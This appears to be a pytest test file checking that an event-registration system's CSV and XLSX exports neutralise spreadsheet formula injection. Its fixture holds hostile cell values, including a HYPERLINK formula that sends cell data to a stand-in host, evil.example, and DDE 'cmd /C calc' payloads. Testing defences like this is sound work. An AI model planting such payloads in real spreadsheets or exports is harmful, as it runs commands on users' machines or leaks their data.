"""Text a spreadsheet would run (=, +, -, @, tab, carriage return first) is written as text by every
CSV and XLSX writer: participants, check-ins, the attendance report and the timing report."""
from __future__ import annotations

import csv
from datetime import date, datetime, time, timedelta

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.agenda.entities import AgendaItem
from models.agenda.runlog import Chair
from models.checkin.entities import CheckIn
from models.checkin.exporting import export_checkins
from models.ground.cells import FORMULA_STARTS, could_run, csv_cell, csv_value
from models.ground.clock import UTC, FakeClock, local_to_utc, venue_zone
from models.ground.db import write_transaction
from models.ground.entities import Day
from models.participants.entities import Delegation, Participant, Role
from models.participants.exporting import export_participants
from models.participants.importing import plan_import, read_participant_table
from models.reports.attendance import write_attendance_csv, write_attendance_xlsx
from models.reports.records import load_record
from models.reports.timing import event_timings, write_timing_csv, write_timing_xlsx

HOSTILE = {
    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "family_name": "+cmd|' /C calc'!A0",
    "organisation": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "delegation": "=1+1 delegation",
    "role": "@role",
    "desk": "\t=desk",
    "message": "=2+2 message",
    "phone": "+355 69 000 0000",
    "agenda": "\r-1 agenda item",
}
CLOCK = FakeClock(datetime(2011, 6, 10, 16, 0, tzinfo=UTC))


@pytest.fixture
def hostile_event(demo_event):
    """The demo with one participant, a delegation, a role, a desk and a chair's message typed as formulas."""
    with write_transaction():
        Participant.update(given_name=HOSTILE["given_name"], family_name=HOSTILE["family_name"],
                           organisation=HOSTILE["organisation"], notes=HOSTILE["notes"], phone=HOSTILE["phone"]) \
            .where(Participant.number == 101).execute()
        Delegation.update(name=HOSTILE["delegation"]).where(Delegation.code == "AL").execute()
        Role.update(name=HOSTILE["role"]).where(Role.key == "officer").execute()
        day = Day.get(Day.number == 1)
        AgendaItem.update(title=HOSTILE["agenda"]).where(AgendaItem.day == day, AgendaItem.kind == "registration") \
            .execute()
        at = local_to_utc(datetime.combine(date(2011, 6, 9), time(8, 50)), venue_zone(demo_event.timezone))
        CheckIn.create(participant=Participant.get(Participant.number == 101), day=day, at=at,
                       desk=HOSTILE["desk"], method="scan", badge_version=1)
    chair_clock = FakeClock(at + timedelta(minutes=20))
    chair = Chair(day, chair_clock)
    chair.start()
    chair_clock.advance(minutes=3)
    chair.show_message(HOSTILE["message"])
    return demo_event


def csv_cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def xlsx_cells(path) -> list:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def writers(event, folder):
    record = load_record(event)
    timings = event_timings(event, None, CLOCK)
    for extension in ("csv", "xlsx"):
        yield f"participants.{extension}", lambda out: export_participants(event, out)
        yield f"checkins.{extension}", lambda out: export_checkins(event, out)
    yield "attendance.csv", lambda out: write_attendance_csv(record, out)
    yield "attendance.xlsx", lambda out: write_attendance_xlsx(record, out)
    yield "timing.csv", lambda out: write_timing_csv(timings, out)
    yield "timing.xlsx", lambda out: write_timing_xlsx(timings, out)


def test_no_writer_leaves_a_cell_a_spreadsheet_would_run(hostile_event, tmp_path):
    seen = set()
    for name, write in writers(hostile_event, tmp_path):
        out = tmp_path / name
        write(out)
        if name.endswith(".csv"):
            cells = csv_cells(out)
            # THEN no cell starts like a formula; the hostile texts are there behind an apostrophe
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
            found = {key for key, text in HOSTILE.items() if "'" + text in cells}
        else:
            cells = xlsx_cells(out)
            # THEN no cell is a formula; the hostile texts are there, as text, exactly as typed
            assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
            found = {key for key, text in HOSTILE.items()
                     if any(cell.value == text and cell.data_type == "s" for cell in cells)}
        assert found, f"{name} holds none of the hostile texts: the test would prove nothing"
        seen |= {(name.split(".")[0], key) for key in found}
    assert {("participants", "given_name"), ("participants", "notes"), ("participants", "role"), ("participants", "phone"),
            ("checkins", "desk"), ("checkins", "family_name"), ("attendance", "organisation"),
            ("attendance", "delegation"), ("timing", "message"), ("timing", "agenda")} <= seen


def test_ordinary_values_are_not_touched(hostile_event, tmp_path):
    out = tmp_path / "participants.csv"
    export_participants(hostile_event, out)
    cells = csv_cells(out)
    assert "Ђорђе" in cells and "Петровић" in cells and "118" in cells and not any(c.startswith("''") for c in cells)


def test_check_in_dates_and_times_are_typed_cells_in_xlsx(hostile_event, tmp_path):
    out = tmp_path / "checkins.xlsx"
    export_checkins(hostile_event, out)
    sheet = openpyxl.load_workbook(out).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    assert row["Date"].value == datetime(2011, 6, 9) and row["Date"].is_date
    assert row["Time"].value == time(8, 50) and row["Time"].number_format == "hh:mm:ss"
    assert row["Number"].value == 101 and row["Day"].value == 1


def test_a_neutralised_participant_list_imports_back_as_it_was_typed(hostile_event, tmp_path):
    out = tmp_path / "participants.csv"
    export_participants(hostile_event, out)
    table = read_participant_table(out)
    plan = plan_import(hostile_event, table)
    assert (len(plan.unchanged), plan.new, plan.updates, plan.problems) == (45, [], [], [])


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab 1"), max_size=6) | st.text(max_size=12))
def test_every_text_reads_back_from_its_csv_cell_as_typed_and_none_can_run(text):
    # an organisation typed as '- came back as - : the apostrophe it began with was taken for ours
    assert csv_value(csv_cell(text)) == text
    assert not could_run(csv_cell(text))


def test_an_apostrophe_typed_in_another_program_is_kept():
    assert csv_value("'Neill") == "'Neill" and csv_value("'=1") == "=1" and csv_value("''-") == "'-"
